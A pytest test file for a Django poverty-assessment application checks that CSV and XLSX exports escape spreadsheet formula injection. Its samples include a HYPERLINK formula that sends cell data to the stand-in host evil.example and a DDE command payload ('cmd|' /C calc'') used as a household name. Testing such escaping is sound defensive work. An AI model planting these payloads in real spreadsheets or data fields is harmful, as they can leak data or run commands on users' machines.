"""Formula injection: text a spreadsheet would run ("=HYPERLINK(...)") is exported as text; numbers stay numbers."""

import datetime
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
import tablib
from django.contrib import admin
from django.test import RequestFactory
from import_export.formats.base_formats import CSV, XLSX
from openpyxl import load_workbook

from assessments.selectors import scorecards
from assessments.services import export_scorecards, score_period
from households.models import Household
from povertyboard.exports import escape_dataset, escape_formula
from tests.factories import (
    make_assignment,
    make_cadre,
    make_county,
    make_duty_rating,
    make_household,
    make_period,
    make_survey,
    make_township,
    make_unit,
    make_veto,
    make_village,
)

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.mark.parametrize("text", [LINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1"])
def test_formula_text_gets_an_apostrophe(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["演示户主", "a=b", "", None, -5, Decimal("-12.50"), 3.5, "-12.50", "+86", "-1e3",
                                   datetime.date(2016, 5, 1)])
def test_other_values_are_left_as_they_are(value):
    assert escape_formula(value) == value


def test_escape_dataset_keeps_headers_title_and_numbers():
    data = tablib.Dataset(["=1+1", -3, Decimal("-1.5"), "-"], headers=["名", "数", "额", "备注"], title="表")
    escaped = escape_dataset(data)
    assert escaped.headers == ["名", "数", "额", "备注"] and escaped.title == "表"
    assert list(escaped[0]) == ["'=1+1", -3, Decimal("-1.5"), "'-"]


@pytest.mark.django_db
def test_scorecard_export_writes_a_formula_name_as_text():
    county = make_county("632801", name="格尔木市")
    period = make_period(county, name="2016年度")
    village = make_village(make_township(county))
    cadre = make_cadre(county, make_unit(county, name="@SUM(A1:A9)"), name=LINK)
    make_assignment(cadre, village, start_date=datetime.date(2015, 10, 1))
    make_duty_rating(period, cadre, score=Decimal(80))
    make_survey(period, cadre)
    make_veto(period, cadre, reason="-未报备擅自离岗")
    score_period(period)

    content = export_scorecards(period, scorecards(period))
    sheet = load_workbook(BytesIO(content)).active
    headers = [c.value for c in sheet[1]]
    row = {h: sheet.cell(2, i) for i, h in enumerate(headers, start=1)}
    assert row["姓名"].value == LINK and row["姓名"].data_type == "s"  # the text as typed, as a text cell
    assert row["派出单位"].value == "@SUM(A1:A9)" and row["派出单位"].data_type == "s"
    assert row["一票否决原因"].value == "-未报备擅自离岗" and row["一票否决原因"].data_type == "s"
    assert row["履职得分（权重3）"].data_type == "n"  # numbers stay numeric cells
    with zipfile.ZipFile(BytesIO(content)) as xlsx:
        assert "<f>" not in xlsx.read("xl/worksheets/sheet1.xml").decode()  # no formula anywhere in the file


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", [CSV(), XLSX()])
def test_admin_registry_export_escapes_formula_text(django_user_model, file_format):
    household = make_household(make_village(make_township(make_county())), head_name="=1+cmd|' /C calc'!A0")
    request = RequestFactory().get("/admin/households/household/export/")
    request.user = django_user_model.objects.create_superuser("root")
    model_admin = admin.site._registry[Household]
    model_admin.request = request
    exported = model_admin.get_export_data(file_format, request, Household.objects.filter(pk=household.pk),
                                           encoding="utf-8")
    if isinstance(file_format, CSV):
        text = exported.decode()
        assert "'=1+cmd" in text and ",=1+cmd" not in text
    else:
        sheet = load_workbook(BytesIO(exported)).active
        values = [c.value for c in sheet[2]]
        assert "'=1+cmd|' /C calc'!A0" in values
        assert all(c.data_type != "f" for c in sheet[2])
